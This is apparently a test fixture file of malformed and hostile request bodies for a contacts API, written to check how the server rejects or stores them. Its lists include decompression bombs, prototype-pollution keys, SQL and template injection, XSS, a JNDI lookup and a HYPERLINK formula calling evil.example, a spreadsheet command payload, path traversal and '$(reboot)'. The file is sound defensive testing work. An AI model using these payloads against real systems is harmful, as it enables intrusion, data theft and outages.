/** What a hostile or broken program may send as the body of `POST /contacts`. */
import { brotliCompressSync, gzipSync } from 'node:zlib';

export interface HostileBody {
  readonly name: string;
  readonly body: string | Buffer;
  readonly headers?: readonly string[];
  /** a body that was read is kept as a refused contact, where a supervisor sees it */
  readonly allowed: 'nothing' | 'stored as refused';
}

/** A body with an identifier that is certain. It becomes a contact, whatever else it contains. */
export interface OddBody {
  readonly name: string;
  readonly body: string | Buffer;
  /** text that must be stored, in any field; null: only the contact must exist */
  readonly stored: string | null;
}

const valid = '{"external_id":"x-1","name":"Иван","message":"Привет","attributes":{"a":1}}';
const inMessage = (raw: Buffer) => Buffer.concat([Buffer.from('{"external_id":"x","message":"'), raw, Buffer.from('"}')]);
const inName = (raw: Buffer) => Buffer.concat([Buffer.from('{"external_id":"x","name":"a'), raw, Buffer.from('b"}')]);
const inKey = (raw: Buffer) => Buffer.concat([Buffer.from('{"external_id":"x","attributes":{"k'), raw, Buffer.from('":1}}')]);
const inId = (raw: Buffer) => Buffer.concat([Buffer.from('{"external_id":"'), raw, Buffer.from('"}')]);

const unread = (name: string, body: string | Buffer, headers: readonly string[] = []): HostileBody => ({ name, body, headers, allowed: 'nothing' });
const malformed = (name: string, body: string | Buffer): HostileBody => ({ name, body, allowed: 'stored as refused' });
const odd = (name: string, body: string | Buffer, stored: string | null = null): OddBody => ({ name, body, stored });
const oddly = (name: string, body: unknown, stored: string | null = null): OddBody => odd(name, JSON.stringify(body), stored);
const misfit = (name: string, body: unknown, headers: readonly string[] = []): HostileBody => ({
  name,
  body: JSON.stringify(body),
  headers,
  allowed: 'stored as refused',
});

const nested = [17, 18, 20, 33, 64, 100, 1000, 5000, 12_000, 30_000].flatMap((depth) => [
  malformed(`arrays ${depth} deep`, '['.repeat(depth) + ']'.repeat(depth)),
  malformed(`objects ${depth} deep`, `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`),
  malformed(`${depth} unclosed brackets`, '['.repeat(depth)),
]);

const nestedInside = [17, 100, 5000, 30_000].flatMap((depth) => [
  odd(`arrays ${depth} deep in attributes`, `{"external_id":"x","attributes":{"a":${'['.repeat(depth)}${']'.repeat(depth)}}}`, '['.repeat(17)),
  odd(`arrays ${depth} deep in an unknown field`, `{"external_id":"x","a":${'['.repeat(depth)}${']'.repeat(depth)}}`),
]);

const BYTES: Record<string, number[]> = {
  'a lone continuation byte': [0x80],
  'a lead byte alone': [0xc3],
  'an overlong slash': [0xc0, 0xaf],
  'an overlong NUL': [0xc0, 0x80],
  'a three-byte overlong': [0xe0, 0x80, 0x80],
  'a UTF-8 surrogate': [0xed, 0xa0, 0x80],
  'a surrogate pair in UTF-8': [0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80],
  'beyond Unicode': [0xf4, 0x90, 0x80, 0x80],
  'a five-byte sequence': [0xf8, 0x88, 0x80, 0x80, 0x80],
  'byte FF': [0xff],
  'byte FE': [0xfe],
  'windows-1251': [0xcf, 0xf0, 0xe8, 0xe2, 0xe5, 0xf2],
  'a cut emoji': [0xf0, 0x9f, 0x98],
};
const brokenUtf8 = Object.entries(BYTES).map(([what, bytes]) => malformed(`${what} in the identifier`, inId(Buffer.from(bytes))));
const brokenBeside = Object.entries(BYTES).flatMap(([what, bytes]) =>
  Object.entries({ message: inMessage, name: inName, attribute: inKey }).map(([where, put]) => odd(`${what} in the ${where}`, put(Buffer.from(bytes)))),
);

const cutOff = Array.from({ length: Buffer.byteLength(valid) - 1 }, (_, i) => malformed(`cut off after ${i} bytes`, Buffer.from(valid).subarray(0, i)));

const controls = Array.from({ length: 32 }, (_, code) => code);
const BLANKS = [9, 10, 13]; // they may be in any text
const rawControls = controls
  .filter((code) => !BLANKS.includes(code))
  .map((code) => malformed(`a raw control character ${code} in the identifier`, inId(Buffer.from([0x61, code, 0x62]))));
const rawControlsBeside = controls.map((code) => odd(`a raw control character ${code} in the message`, inMessage(Buffer.from([code]))));

const NUMBERS = ['1e400', '-1e400', '9007199254740993', '-9007199254740993', '9007199254740992', '1e308', '123456789012345678901234567890', '1e16'];
const numbers = NUMBERS.map((number) => malformed(`the number ${number} in an array as an identifier`, `{"external_id":["x",${number}]}`));
const numbersBeside = NUMBERS.flatMap((number) => [
  odd(`the number ${number} as an attribute`, `{"external_id":"x","attributes":{"n":${number}}}`, `"${number}"`),
  odd(`the number ${number} as a source`, `{"external_id":"x","source_id":${number}}`, `"${number}"`),
  odd(`the number ${number} in an unknown field`, `{"external_id":"x","n":${number}}`),
]);

const twice = ['{"external_id":"x","external_id":"y"}', '{"phone":"+79001234567","ph\\u006fne":"+79007654321"}', '{"email":"a@example.com","email":1}'].map(
  (body) => malformed(`a name twice: ${body}`, body),
);
const twiceBeside = [
  odd('an identifier twice', '{"external_id":"x","phone":"+79001234567","phone":"+79007654321"}', '[\\"+79001234567\\",\\"+79007654321\\"]'),
  odd('an attribute twice', '{"external_id":"x","attributes":{"a":"one","a":"two"}}', '[\\"one\\",\\"two\\"]'),
  odd('an attribute without a name twice', '{"external_id":"x","attributes":{"":1,"":2}}', '"[1,2]"'),
  odd('a source twice', '{"external_id":"x","source_id":1,"source_id":2}', '"[1,2]"'),
  odd('a message twice', '{"external_id":"x","message":"one","message":"two"}', '[\\"one\\",\\"two\\"]'),
  odd('an unknown field twice', '{"external_id":"x","y":1,"y":2}'),
];

const prototypes = ['[{"__proto__":1}]', '{"__proto__":{"external_id":"x"}}'].map((body) => malformed(`a prototype: ${body}`, body));
const prototypesBeside = [
  odd('a prototype', '{"external_id":"x","__proto__":{"is_admin":true}}'),
  odd('an escaped prototype', '{"external_id":"x","\\u005f_proto__":1}'),
  odd('a null prototype', '{"__proto__":null,"external_id":"x"}'),
  odd('a prototype in attributes', '{"external_id":"x","attributes":{"__proto__":{"a":1}}}', '{\\"__proto__\\":{\\"a\\":1}}'),
];

const blank = ['', ' ', '\n'].map((body) => unread(`nothing: ${JSON.stringify(body)}`, body));
const NOT_JSON = [
  'null x',
  'NaN',
  'Infinity',
  'undefined',
  "{'external_id':'x'}",
  '{external_id:"x"}',
  '{"external_id":"x",}',
  '{"external_id":"x"} {}',
  '{"external_id":"x"}{"external_id":"y"}',
  '{"external_id":"x" /* it */}',
  '// it\n{"external_id":"x"}',
  '{"external_id":0x10}',
  '{"external_id":+1}',
  '{"external_id":01}',
  '{"external_id":.5}',
  '{"external_id":"\\x41"}',
  '{"external_id":"\\u12"}',
  '{"external_id":"\\ud8"}',
  '<contact><phone>+79001234567</phone></contact>',
  'external_id=x&phone=%2B79001234567',
  'external_id: x',
  '=cmd|" /C calc"!A0',
  '{"external_id":"x"}\0',
  '\0{"external_id":"x"}',
  '/{"external_id":"x"}',
  ')]}\',\n{"external_id":"x"}',
].map((body) => malformed(`not JSON: ${JSON.stringify(body).slice(0, 40)}`, body));

const encodings = [
  malformed('UTF-16 without an identifier', Buffer.from('{"name":"x"}', 'utf16le')),
  unread('unannounced gzip', gzipSync(valid)),
  unread('a gzip bomb of 64 MiB', gzipSync(Buffer.alloc(64 * 1024 * 1024, 'x')), ['Content-Encoding: gzip']),
  unread('a brotli bomb of 64 MiB', brotliCompressSync(Buffer.alloc(64 * 1024 * 1024, 'x')), ['Content-Encoding: br']),
  unread('a gzip bomb within gzip', gzipSync(gzipSync(Buffer.alloc(64 * 1024 * 1024, 'x'))), ['Content-Encoding: gzip, gzip']),
  unread('truncated gzip', gzipSync(valid).subarray(0, 30), ['Content-Encoding: gzip']),
  unread('plain JSON labelled as gzip', valid, ['Content-Encoding: gzip']),
  unread('an unknown content encoding', valid, ['Content-Encoding: constructor']),
];
const encodingsBeside = [
  odd('UTF-16 LE', Buffer.from(valid, 'utf16le'), 'Привет'),
  odd('UTF-16 LE with a byte order mark', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(valid, 'utf16le')]), 'Привет'),
  odd('a byte order mark', '\u{feff}{"external_id":"x"}'),
];

const sized = (bytes: number) => `{"external_id":"x","ignored":"${'x'.repeat(bytes - 32)}"}`;
const sizes = [256 * 1024 + 1, 256 * 1024 + 1000, 300_000, 1_000_000, 5_000_000].map((bytes) => unread(`${bytes} bytes`, sized(bytes)));

const TYPES = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'text/json',
  'application/jsonp',
  'application/json; charset=utf-16',
  'application/json; charset=windows-1251',
  'application/vnd.api+json',
  'text/plain; application/json',
  'application/json, text/plain',
  '*/*',
].map((type) => unread(`as ${type}`, valid, [`Content-Type: ${type}`]));

export const malformedBodies: readonly HostileBody[] = [
  ...nested,
  ...brokenUtf8,
  ...cutOff,
  ...rawControls,
  ...numbers,
  ...twice,
  ...prototypes,
  ...blank,
  ...NOT_JSON,
  ...encodings,
  ...sizes,
  ...TYPES,
];

const escapes = ['\u0000', '\u0001', '\u0007', '\u0008', '\u000b', '\u001b[2J', '\u007f', '\ud800', '\udc00', '\ud800\ud800', 'x\udfff'];
const unfit = escapes.map((text) => misfit(`${JSON.stringify(text)} in the identifier`, { external_id: `a${text}b` }));
const unfitBeside = escapes.flatMap((text) => [
  oddly(`${JSON.stringify(text)} in the message`, { external_id: 'x', message: text }),
  oddly(`${JSON.stringify(text)} in the name`, { external_id: 'x', name: `a${text}b` }),
  oddly(`${JSON.stringify(text)} in an attribute`, { external_id: 'x', attributes: { a: text } }),
  oddly(`${JSON.stringify(text)} in an attribute’s name`, { external_id: 'x', attributes: { [text]: 'odd name' } }, 'odd name'),
]);

const FIELDS = ['phone', 'email', 'name', 'message'];
const WRONG = [true, [], {}, ['a', {}], { $gt: '' }];
const wrongTypes = ['external_id', 'phone', 'email'].flatMap((field) =>
  WRONG.map((value) => misfit(`only ${field}, with the value ${JSON.stringify(value)}`, { [field]: value })),
);
const wrongBeside = FIELDS.flatMap((field) =>
  [7, ...WRONG].map((value) => oddly(`${field} is ${JSON.stringify(value)}`, { external_id: 'x', [field]: value })),
);

const many = (count: number) => Object.fromEntries(Array.from({ length: count }, (_, i) => [`a${i}`, i]));
const others = [
  ...[[], [{ external_id: 'x' }], 'external_id', 1, true, null].map((body) => misfit(`the body is ${JSON.stringify(body)}`, body)),
  ...[{}, { name: 'x' }, { phone: '' }, { external_id: '   ' }, { phone: null }, { phone: 'abc' }, { phone: '112' }, { email: 'nobody' }, { email: '@' }].map(
    (body) => misfit(`no usable identifier in ${JSON.stringify(body)}`, body),
  ),
  misfit('the id of another source', { external_id: 'x', source_id: 999_999 }),
  misfit('the id of another source, as text', { external_id: 'x', source_id: '999999' }),
  misfit('an identifier of 50,000 characters', { external_id: 'x'.repeat(50_000) }),
  misfit('an invalid body of 250 KB', { attributes: { a: 'x'.repeat(250_000) } }),
  misfit('an empty key', { external_id: 'x' }, ['Idempotency-Key: ']),
  misfit('a key of 256 characters', { external_id: 'x' }, [`Idempotency-Key: ${'k'.repeat(256)}`]),
  misfit('a key with a space', { external_id: 'x' }, ['Idempotency-Key: a b']),
  misfit('a key outside ASCII', { external_id: 'x' }, ['Idempotency-Key: ключ']),
];
const othersBeside = [
  ...[0, -1, 1.5, true, {}, []].map((source_id) => oddly(`the source is ${JSON.stringify(source_id)}`, { external_id: 'x', source_id })),
  ...[[], 'x', 1, { a: [] }, { a: {} }, many(101), many(4000), { ['k'.repeat(101)]: 1 }, { a: 'x'.repeat(4097) }, { ['~'.repeat(60_000)]: 'v' }].map(
    (attributes) => oddly(`attributes: ${JSON.stringify(attributes).slice(0, 30)}`, { external_id: 'x', attributes }),
  ),
  oddly('a name of 201 characters', { external_id: 'x', name: 'x'.repeat(201) }, 'x'.repeat(201)),
  oddly('a message of 16,001 characters', { external_id: 'x', message: 'x'.repeat(16_001) }, 'x'.repeat(15_999)),
  oddly('an e-mail of 200 KB', { external_id: 'x', email: 'x'.repeat(200_000) }),
];

export const misfitBodies: readonly HostileBody[] = [...unfit, ...wrongTypes, ...others];

/** Odd, but with an identifier that is certain: accepted, and stored so that every reader understands it the same way. */
export const oddBodies: readonly OddBody[] = [
  ...nestedInside,
  ...brokenBeside,
  ...rawControlsBeside,
  ...numbersBeside,
  ...twiceBeside,
  ...prototypesBeside,
  ...encodingsBeside,
  ...unfitBeside,
  ...wrongBeside,
  ...othersBeside,
];

/** Unusual but valid: they are returned as they were sent. */
export const legalBodies = [
  "'; DROP TABLE contacts; --",
  '" OR 1=1 --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example","x")',
  '+7*8',
  '-2+3',
  '@SUM(A1)',
  '＝1+1',
  '../../etc/passwd',
  '%00%0d%0aSet-Cookie: a=b',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: written as an attacker would
  '${jndi:ldap://evil.example}',
  '{{7*7}}',
  '$(reboot) `reboot`',
  'null',
  'true',
  '0',
  '1e400',
  'constructor',
  'toString',
  'hasOwnProperty',
  'שלום عليكم',
  '\u202Eсвоих не узнать',
  '👩‍👩‍👧‍👦 🏳️‍🌈',
  'Ё и Й',
  'ß ſ İ ı',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  '\u{10FFFF}',
  'строка\nза строкой\tи ещё',
  'zero\u200bwidth',
  'x'.repeat(200),
].map((text) => ({ name: text, message: text, attributes: { [text.slice(0, 100)]: text } }));
